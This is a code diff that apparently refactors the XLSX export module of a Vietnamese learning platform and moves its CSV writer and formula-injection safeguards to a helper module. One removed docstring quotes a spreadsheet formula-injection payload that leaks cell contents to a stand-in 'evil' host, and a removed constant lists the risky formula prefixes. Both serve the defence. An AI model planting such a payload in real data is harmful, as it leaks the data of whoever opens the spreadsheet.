@@ -1,103 +1,31 @@
-"""Spreadsheet downloads: tabular rows as CSV or XLSX.
+"""Exports as XLSX: one sheet with a title, a subtitle, a styled header and the rows, built in
+openpyxl's write-only mode so that memory stays flat however many rows there are.
 
-Used by teachers' class-progress downloads and administrators' completion reports. The module
-knows nothing about the database or Flask: callers hand it a header and an iterable of rows
-(a list, or better a generator over a query, so that a large report is never held in memory)
-and get back CSV text chunks or an XLSX file.
-
-Safety: formula injection
-    A learner can type ``=HYPERLINK("http://evil/?"&A1, "Bấm vào đây")`` as their name. If a
-    spreadsheet program treats that cell as a formula when a teacher opens the export, the
-    learner runs code in the teacher's spreadsheet. Every *text* cell therefore goes through
-    :func:`neutralize`, which prefixes risky text with an apostrophe (the OWASP "CSV
-    injection" rule). Real numbers, dates and booleans are written as such and never
-    prefixed, so ``-3`` stays a number and still sums.
-
-Text
-    Text is NFC-normalized (some keyboards send Vietnamese letters decomposed into a base letter
-    plus combining marks, which sort and search badly in spreadsheets) and control characters
-    that XML cannot hold are dropped.
-
-Times
-    The database hands out timezone-aware UTC datetimes; exports show local wall-clock time.
-    Aware datetimes are converted to ``tz`` (default ``Asia/Ho_Chi_Minh``, the site's
-    ``BABEL_DEFAULT_TIMEZONE``); naive ones are taken to be local already.
-
-Which format
-    CSV is for other programs, LibreOffice and Google Sheets. Excel on a Vietnamese Windows
-    expects ``;`` between fields and ``,`` as the decimal mark, so for people who open files in
-    Excel, offer XLSX: it keeps numbers as numbers, dates as dates, and text such as phone
-    numbers (``0912…``) as text.
-
-Serving from a Flask view (a generator that queries the database needs the request context)::
-
-    from flask import Response, stream_with_context
-    return Response(
-        stream_with_context(csv_stream(title_rows, header, rows)),
-        mimetype=CSV_MIMETYPE,
-        headers={"Content-Disposition": content_disposition("tien-do-lop-6A.csv")},
-    )
-
-    return Response(
-        xlsx_stream(title, subtitle, header, rows, number_formats={"Hoàn thành (%)": "0.0"}),
-        mimetype=XLSX_MIMETYPE,
-        headers={"Content-Disposition": content_disposition("báo cáo.xlsx")},
-    )
+XLSX is what to offer people who open files in Excel: it keeps numbers as numbers, dates as
+dates, and text such as phone numbers (``0912…``) as text.
 """
 from __future__ import annotations
 
-import csv
-import io
 import math
 import re
 import tempfile
 import unicodedata
 from collections.abc import Iterable, Iterator, Mapping, Sequence
 from datetime import date, datetime, time, tzinfo
-from decimal import Decimal
 from itertools import chain, islice
 from typing import IO, Any, Optional, Union
-from urllib.parse import quote
-from zoneinfo import ZoneInfo
 
 from openpyxl import Workbook
 from openpyxl.cell import WriteOnlyCell
-from openpyxl.cell.cell import ERROR_CODES, ILLEGAL_CHARACTERS_RE
+from openpyxl.cell.cell import ERROR_CODES
 from openpyxl.styles import Alignment, Border, Font, PatternFill, Side
 from openpyxl.utils import get_column_letter
 
-from lms.text import strip_marks
+from lms.exports.cells import CONTROL_CHARACTERS, LOCAL_TZ, is_finite, is_number, safe_text, wall_clock
 
-__all__ = [
-    "BOM",
-    "CSV_MIMETYPE",
-    "DANGEROUS_PREFIXES",
-    "HEADER_ROW",
-    "LOCAL_TZ",
-    "XLSX_MIMETYPE",
-    "content_disposition",
-    "csv_stream",
-    "neutralize",
-    "safe_sheet_title",
-    "xlsx_bytes",
-    "xlsx_stream",
-]
-
-CSV_MIMETYPE = "text/csv"  # Flask/Werkzeug append "; charset=utf-8" to text/* types
 XLSX_MIMETYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
 
-BOM = "\ufeff"  # lets Excel recognise a CSV file as UTF-8 instead of the Windows code page
-LOCAL_TZ = ZoneInfo("Asia/Ho_Chi_Minh")
-
-#: First characters that make a spreadsheet program read a cell as a formula (``=``, ``+``,
-#: ``-``, ``@``) or that can hide such a character at the start of a cell (tab, carriage return).
-DANGEROUS_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
-
-# Values that are not text: written as real numbers, dates or booleans, never prefixed.
-# bool is a subclass of int and datetime a subclass of date, so both are covered.
-_NOT_TEXT = (int, float, Decimal, date, time, type(None))
-
-# ---- layout of the XLSX sheet (1-based rows, as spreadsheets count) -------------------------
+# ---- layout of the sheet (1-based rows, as spreadsheets count) ------------------------------
 TITLE_ROW = 1
 SUBTITLE_ROW = 2
 HEADER_ROW = 4  # row 3 stays empty; data starts on HEADER_ROW + 1, where panes are frozen
@@ -114,7 +42,6 @@ WIDTH_SAMPLE_ROWS = 100  # rows read ahead to estimate column widths
 MIN_WIDTH, MAX_WIDTH = 8, 60  # in "characters", the unit of openpyxl's column widths
 HEADER_WIDTH_CAP = 24  # a long header wraps instead of widening its column past this
 
-CSV_CHUNK_SIZE = 16 * 1024  # characters gathered before a CSV chunk is yielded
 XLSX_CHUNK_SIZE = 64 * 1024  # bytes per chunk of xlsx_stream
 SPOOL_MAX_BYTES = 8 * 1024 * 1024  # an XLSX file larger than this goes to a temporary file
 
@@ -127,154 +54,8 @@ _HEADER_BORDER = Border(left=_THIN, right=_THIN, top=_THIN, bottom=_THIN)
 _HEADER_ALIGNMENT = Alignment(wrap_text=True, vertical="center", horizontal="center")
 
 _SHEET_TITLE_FORBIDDEN = re.compile(r"[\[\]:*?/\\]")
-_CONTROL = re.compile(r"[\x00-\x1f\x7f]")
 
 ColumnSpec = Union[Mapping[Union[int, str], Any], Sequence[Any], None]
-
-
-# ---- formula injection ------------------------------------------------------------------------
-
-
-def neutralize(value: Any) -> Any:
-    """Make ``value`` safe to put in a spreadsheet cell.
-
-    The rule:
-
-    * text whose first character is ``=``, ``+``, ``-``, ``@``, tab or carriage return gets a
-      leading apostrophe, so Excel and LibreOffice show it as text instead of running it as a
-      formula: ``"=1+2"`` becomes ``"'=1+2"``, and so does text that is merely ``"-"``;
-    * other text, including the empty string, is returned unchanged;
-    * numbers (``int``, ``float``, ``Decimal``), booleans, ``None``, dates, datetimes and times
-      are returned unchanged: a real negative number stays a number;
-    * anything else is turned into text first (``str(value)``) and then checked like text, so
-      an object whose text starts with ``=`` cannot slip through.
-
-    Subclasses of ``str`` (``Markup``, string enums) come back as plain ``str`` holding their
-    characters: adding the apostrophe to a ``Markup`` would HTML-escape it.
-    """
-    if isinstance(value, str):
-        text = value if type(value) is str else str.__str__(value)
-        return "'" + text if text.startswith(DANGEROUS_PREFIXES) else text
-    if isinstance(value, _NOT_TEXT):
-        return value
-    return neutralize(str(value))
-
-
-def _clean_text(value: Any) -> str:
-    """Text as written to a file: plain str, NFC, without XML-illegal control characters."""
-    if type(value) is str:
-        text = value
-    else:
-        text = str.__str__(value) if isinstance(value, str) else str(value)
-    return ILLEGAL_CHARACTERS_RE.sub("", unicodedata.normalize("NFC", text))
-
-
-def _safe_text(value: Any) -> str:
-    return neutralize(_clean_text(value))
-
-
-def _is_number(value: Any) -> bool:
-    return isinstance(value, (int, float, Decimal)) and not isinstance(value, bool)
-
-
-def _is_finite(value: Any) -> bool:
-    """False for NaN and infinities, which no spreadsheet can store as a number."""
-    if isinstance(value, float):
-        return math.isfinite(value)
-    if isinstance(value, Decimal):
-        return value.is_finite()
-    return True
-
-
-def _local(moment: datetime, tz: tzinfo) -> datetime:
-    """Wall-clock time in ``tz`` without a zone (spreadsheets have no time zones)."""
-    if moment.tzinfo is not None and moment.utcoffset() is not None:
-        moment = moment.astimezone(tz)
-    return moment.replace(tzinfo=None)
-
-
-# ---- CSV ----------------------------------------------------------------------------------------
-
-
-_HAS_ILLEGAL = ILLEGAL_CHARACTERS_RE.search
-
-
-def _csv_cell(value: Any, tz: tzinfo) -> str:
-    # The common cases first and inline: a report writes hundreds of thousands of cells.
-    kind = type(value)
-    if kind is str:
-        text = value if unicodedata.is_normalized("NFC", value) else unicodedata.normalize("NFC", value)
-        if _HAS_ILLEGAL(text):
-            text = ILLEGAL_CHARACTERS_RE.sub("", text)
-        return "'" + text if text.startswith(DANGEROUS_PREFIXES) else text
-    if kind is int:
-        return str(value)
-    if value is None:
-        return ""
-    if isinstance(value, bool):
-        return "TRUE" if value else "FALSE"
-    if isinstance(value, datetime):
-        return _local(value, tz).strftime("%Y-%m-%d %H:%M")
-    if isinstance(value, date):
-        return value.isoformat()
-    if isinstance(value, time):
-        return value.strftime("%H:%M")
-    if _is_number(value):
-        return str(value) if _is_finite(value) else ""
-    return _safe_text(value)
-
-
-def _drain(buffer: io.StringIO) -> str:
-    text = buffer.getvalue()
-    buffer.seek(0)
-    buffer.truncate()
-    return text
-
-
-def csv_stream(
-    title_rows: Optional[Iterable[Union[str, Iterable[Any]]]],
-    header: Sequence[Any],
-    rows: Iterable[Iterable[Any]],
-    *,
-    delimiter: str = ",",
-    chunk_size: int = CSV_CHUNK_SIZE,
-    tz: tzinfo = LOCAL_TZ,
-) -> Iterator[str]:
-    """Yield a CSV file as text chunks, reading ``rows`` one at a time.
-
-    The first chunk starts with the UTF-8 byte order mark :data:`BOM`, so Excel shows
-    Vietnamese letters correctly, followed by the ``title_rows`` (each a row of cells, or a
-    plain string for a one-cell row; ``None`` or empty for none) and the ``header``. It is
-    yielded before the first data row is read, so the download starts at once. Data rows
-    follow in chunks of about ``chunk_size`` characters; ``rows`` is consumed lazily and the
-    whole file is never held in memory.
-
-    Cells: text is neutralized (see :func:`neutralize`), ``None`` is empty, dates are
-    ``yyyy-mm-dd``, datetimes ``yyyy-mm-dd HH:MM`` (local time, see the module notes), times
-    ``HH:MM``, booleans ``TRUE``/``FALSE``, numbers as Python writes them. Lines end in CRLF
-    and fields are quoted only when needed (RFC 4180).
-
-    The chunks are ``str``; a WSGI response encodes them as UTF-8.
-    """
-    buffer = io.StringIO()
-    writer = csv.writer(buffer, delimiter=delimiter, lineterminator="\r\n")
-    buffer.write(BOM)
-    for title_row in title_rows or ():
-        cells = (title_row,) if isinstance(title_row, str) else title_row
-        writer.writerow([_csv_cell(value, tz) for value in cells])
-    writer.writerow([_csv_cell(value, tz) for value in header])
-    yield _drain(buffer)
-
-    for row in rows:
-        writer.writerow([_csv_cell(value, tz) for value in row])
-        if buffer.tell() >= chunk_size:
-            yield _drain(buffer)
-    rest = _drain(buffer)
-    if rest:
-        yield rest
-
-
-# ---- XLSX ---------------------------------------------------------------------------------------
 
 
 def safe_sheet_title(text: Any, fallback: str = "Sheet1") -> str:
@@ -286,7 +67,7 @@ def safe_sheet_title(text: Any, fallback: str = "Sheet1") -> str:
     "History" (reserved by Excel) gets a suffix, and an empty result becomes ``fallback``.
     """
     title = unicodedata.normalize("NFC", "" if text is None else str(text))
-    title = _CONTROL.sub("", title).replace("/", "-").replace("\\", "-")
+    title = CONTROL_CHARACTERS.sub("", title).replace("/", "-").replace("\\", "-")
     title = _SHEET_TITLE_FORBIDDEN.sub(" ", title)
     title = " ".join(title.split()).strip("'").strip()
     while len(title.encode("utf-16-le")) // 2 > SHEET_TITLE_MAX:
@@ -338,9 +119,9 @@ def _value_width(value: Any) -> int:
         return len(TIME_FORMAT)
     if isinstance(value, float):
         return len(f"{value:.2f}") if math.isfinite(value) else 0
-    if _is_number(value):
+    if is_number(value):
         return len(str(value))
-    return _text_width(_safe_text(value))
+    return _text_width(safe_text(value))
 
 
 def _column_widths(header: Sequence[Any], sample: Sequence[Sequence[Any]], given: list[Any]) -> list[float]:
@@ -349,7 +130,7 @@ def _column_widths(header: Sequence[Any], sample: Sequence[Sequence[Any]], given
         if given[index] is not None:
             widths.append(float(given[index]))
             continue
-        name_text = _safe_text(name) if name is not None else ""
+        name_text = safe_text(name) if name is not None else ""
         longest_word = max((len(word) for word in name_text.split()), default=0)
         needed = max(longest_word, min(_text_width(name_text), HEADER_WIDTH_CAP))
         for row in sample:
@@ -371,17 +152,17 @@ def _xlsx_cell(ws: Any, value: Any, number_format: Optional[str], tz: tzinfo) ->
     write-only mode), otherwise a WriteOnlyCell carrying its number format."""
     if value is None or isinstance(value, bool):
         return value
-    if _is_number(value):
-        if not _is_finite(value):
+    if is_number(value):
+        if not is_finite(value):
             return None
         return _styled(ws, value, number_format=number_format) if number_format else value
     if isinstance(value, datetime):
-        return _styled(ws, _local(value, tz), number_format=number_format or DATETIME_FORMAT)
+        return _styled(ws, wall_clock(value, tz), number_format=number_format or DATETIME_FORMAT)
     if isinstance(value, date):
         return _styled(ws, value, number_format=number_format or DATE_FORMAT)
     if isinstance(value, time):
         return _styled(ws, value.replace(tzinfo=None), number_format=number_format or TIME_FORMAT)
-    text = _safe_text(value)[:XLSX_MAX_TEXT]
+    text = safe_text(value)[:XLSX_MAX_TEXT]
     if text in ERROR_CODES:
         # openpyxl would store "#N/A" typed by a person as an error value; keep it text.
         cell = WriteOnlyCell(ws, value=text)
@@ -410,14 +191,14 @@ def _fill_sheet(
     ws.freeze_panes = f"A{HEADER_ROW + 1}"
     ws.print_title_rows = f"{HEADER_ROW}:{HEADER_ROW}"  # the header repeats on printed pages
 
-    ws.append([_styled(ws, _safe_text(title) if title is not None else None, font=_TITLE_FONT)])
-    ws.append([_styled(ws, _safe_text(subtitle), font=_SUBTITLE_FONT)] if subtitle is not None else [])
+    ws.append([_styled(ws, safe_text(title) if title is not None else None, font=_TITLE_FONT)])
+    ws.append([_styled(ws, safe_text(subtitle), font=_SUBTITLE_FONT)] if subtitle is not None else [])
     for _ in range(SUBTITLE_ROW + 1, HEADER_ROW):
         ws.append([])
     ws.append([
         _styled(
             ws,
-            _safe_text(name) if name is not None else None,
+            safe_text(name) if name is not None else None,
             font=_HEADER_FONT,
             fill=_HEADER_FILL,
             border=_HEADER_BORDER,
@@ -519,8 +300,9 @@ def xlsx_bytes(
 
     ``rows`` may be any iterable of rows, a generator included; it is read once, row by row.
     Cells: numbers stay numbers, dates and datetimes become real dates shown ``dd/mm/yyyy``
-    (``dd/mm/yyyy hh:mm``; local time, see the module notes), booleans stay booleans, ``None``
-    is an empty cell, and every text cell is neutralized (see :func:`neutralize`).
+    (``dd/mm/yyyy hh:mm``; local time, see :mod:`lms.exports.cells`), booleans stay booleans,
+    ``None`` is an empty cell, and every text cell is neutralized (see
+    :func:`lms.exports.cells.neutralize`).
 
     ``number_formats``: Excel number formats per column, as a sequence in header order or a
     mapping keyed by 0-based column number or header text, e.g. ``{"Hoàn thành (%)": "0.0"}``
@@ -572,20 +354,3 @@ def _read_chunks(spool: IO[bytes], chunk_size: int) -> Iterator[bytes]:
     finally:
         spool.close()
 
-
-# ---- HTTP ---------------------------------------------------------------------------------------
-
-
-def content_disposition(filename: str) -> str:
-    """A ``Content-Disposition: attachment`` value for a file name that may hold Vietnamese
-    letters: an ASCII fallback (``báo cáo đợt 1.xlsx`` -> ``bao_cao_dot_1.xlsx``) for old
-    clients and the exact name as RFC 5987 ``filename*``."""
-    name = unicodedata.normalize("NFC", _CONTROL.sub("", filename)).strip() or "download"
-    plain = re.sub(r"[^A-Za-z0-9._-]+", "_", strip_marks(name)).strip("_") or "download"
-    return f"attachment; filename=\"{plain}\"; filename*=UTF-8''{quote(name, safe='')}"
-
-
-def ascii_slug(text: str, fallback: str = "tep") -> str:
-    """A file-name piece from Vietnamese text: "Lớp Đắk Lắk" → "lop-dak-lak"."""
-    plain = strip_marks(text or "").encode("ascii", "ignore").decode().lower()
-    return re.sub(r"[^a-z0-9]+", "-", plain).strip("-") or fallback
